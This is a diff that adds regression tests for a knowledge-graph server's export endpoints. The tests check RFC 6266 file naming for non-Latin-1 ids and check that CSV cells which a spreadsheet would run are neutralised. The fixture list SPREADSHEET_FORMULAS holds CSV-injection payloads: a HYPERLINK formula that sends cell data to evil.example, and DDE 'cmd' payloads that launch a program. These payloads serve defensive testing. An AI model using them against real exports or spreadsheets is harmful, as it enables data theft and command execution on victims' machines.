@@ -7,9 +7,13 @@ Each regression test names what the fuzzing found (README "Reliability and secur
 
 from __future__ import annotations
 
+import csv
+import io
+import re
 import socket
 import time
 from pathlib import Path
+from urllib.parse import unquote
 
 import httpx
 import pytest
@@ -343,3 +347,60 @@ def test_errors_that_echo_hostile_input_are_json_never_sniffed_as_html(scratch_s
 
 def test_no_route_serves_files_from_outside_its_directory(scratch_server, app_routes):
     assert_no_traversal(scratch_server.url, file_routes(app_routes) + ["/", "/sparql/", "/docs/"])
+
+
+# ------------------------------------------------------------------------------------------- exports
+SPREADSHEET_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+                        "\t=1+1", "\r=1+1", "-2+3"]
+EXPORT_IDS = ["电子信息企业", "中元汇吉;x=1,y", "ü-latin1-but-not-ascii", "🚗-emoji"]
+
+
+@pytest.fixture(scope="module")
+def export_entities(scratch_server):
+    """Firms whose local ids are not Latin-1 (a header's charset) and whose labels are spreadsheet formulas,
+    each supplying the next, so every view of them has edges (typed Organization too: no ontology here)."""
+    base, lines = "https://w3id.org/chainkg/id/", []
+    for i, local in enumerate(EXPORT_IDS):
+        iri, label = f"<{base}{local}>", SPREADSHEET_FORMULAS[i]
+        escaped = label.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
+        lines += [f"{iri} <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <https://w3id.org/chainkg/ontology#Company> .",
+                  f"{iri} <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <http://www.w3.org/ns/org#Organization> .",
+                  f'{iri} <http://www.w3.org/2004/02/skos/core#prefLabel> "{escaped}"@zh-Hans .',
+                  f'{iri} <http://www.w3.org/2004/02/skos/core#prefLabel> "firm {i}"@en .',
+                  f"{iri} <https://w3id.org/chainkg/ontology#supplies> <{base}{EXPORT_IDS[(i + 1) % len(EXPORT_IDS)]}> ."]
+    response = httpx.put(scratch_server + "/store", params={"graph": "urn:exports"}, content="\n".join(lines).encode(),
+                         headers={**AUTH, "Content-Type": "application/n-triples"})
+    assert response.status_code in (201, 204), response.text
+    return EXPORT_IDS
+
+
+@pytest.mark.parametrize("fmt", ["csv", "graphml", "gexf", "node-link"])
+@pytest.mark.parametrize("local", EXPORT_IDS)
+def test_an_export_of_an_entity_whose_id_is_not_latin1_is_named_by_rfc6266(scratch_server, export_entities, local,
+                                                                          fmt):
+    """A Chinese id in Content-Disposition was a 500 (headers are Latin-1): the name goes in filename*, UTF-8,
+    with an ASCII stand-in in filename."""
+    for path in (f"/api/entities/{local}/network", f"/api/companies/{local}/suppliers"):
+        response = httpx.get(scratch_server + path, params={"format": fmt}, timeout=CLIENT_TIMEOUT)
+        assert response.status_code == 200, response.text
+        disposition = response.headers["content-disposition"]
+        assert disposition.isascii(), disposition
+        kind, fallback, extended = (part.strip() for part in disposition.split(";"))
+        assert kind == "attachment" and re.fullmatch(r'filename="[A-Za-z0-9._-]+"', fallback), disposition
+        name = unquote(extended.removeprefix("filename*=UTF-8''"), errors="strict")
+        assert name == f"{local}-{'network' if 'network' in path else 'suppliers'}.{EXTENSIONS[fmt]}", disposition
+
+
+EXTENSIONS = {"csv": "csv", "graphml": "graphml", "gexf": "gexf", "node-link": "json"}
+
+
+def test_csv_exports_neutralise_cells_a_spreadsheet_would_run(scratch_server, export_entities):
+    """Labels come from uploads and articles: one that is a formula stays text in a spreadsheet (a leading ')."""
+    response = httpx.get(scratch_server + f"/api/entities/{EXPORT_IDS[0]}/network", params={"format": "csv",
+                                                                                             "radius": 3})
+    assert response.status_code == 200, response.text
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert len(rows) == len(EXPORT_IDS)
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+    assert {row["source_label_zh"] for row in rows} == {"'" + label for label in SPREADSHEET_FORMULAS[:len(EXPORT_IDS)]}
